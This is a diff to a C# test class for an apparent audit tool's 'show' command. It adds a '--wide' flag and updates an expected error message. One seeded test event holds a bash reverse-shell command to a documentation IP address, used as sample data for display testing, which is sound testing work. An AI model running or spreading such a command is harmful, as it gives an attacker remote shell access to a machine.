@@ -115,7 +115,7 @@ public abstract partial class AuditCommandsTest
     {
         var id = await SeedAsync(new SampleEvent { Args = ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1", "it's", ""] });
 
-        var result = await RunAsync("show", id.Value);
+        var result = await RunAsync("show", id.Value, "--wide");
 
         Assert.True(result.ExitCode == ExitCodes.Ok, result.ToString());
         var lines = result.Output.Split(Environment.NewLine);
@@ -197,7 +197,7 @@ public abstract partial class AuditCommandsTest
         var result = await RunAsync("show", badId);
 
         Assert.Equal(ExitCodes.Usage, result.ExitCode);
-        Assert.Contains("is not a bundle id, the ID list prints, a finding id or a finding name: a bundle id is yyyyMMddTHHmmssfffZ-<finding id>-<16 hex digits>", result.Error, StringComparison.Ordinal);
+        Assert.Contains("is not a bundle id, the ID list prints, a finding id, a finding name or a bundle zip's path: a bundle id is yyyyMMddTHHmmssfffZ-<finding id>-<16 hex digits>", result.Error, StringComparison.Ordinal);
         Assert.DoesNotContain('\u001b', result.Error);
     }
 
